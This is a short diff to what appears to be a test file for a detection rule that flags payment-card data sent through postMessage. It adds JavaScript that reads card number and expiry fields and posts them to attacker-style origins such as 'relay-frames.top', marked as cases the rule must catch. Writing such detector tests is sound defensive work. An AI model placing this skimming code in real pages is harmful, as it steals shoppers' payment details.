@@ -15,10 +15,10 @@ var exp = document.getElementById('card-expiry').value;
 window.opener.postMessage(btoa(exp), 'https://stripe-api.top');
 
 // ---
-// Through a helper, target origin taken from configuration.
+// Through a helper to a fixed attacker origin.
 function relay(msg) {
   // ruleid: card-data-via-postmessage
-  parent.postMessage(msg, window.__relayOrigin);
+  parent.postMessage(msg, 'https://relay-frames.top');
 }
 relay({ number: document.getElementById('cardnumber').value });
 
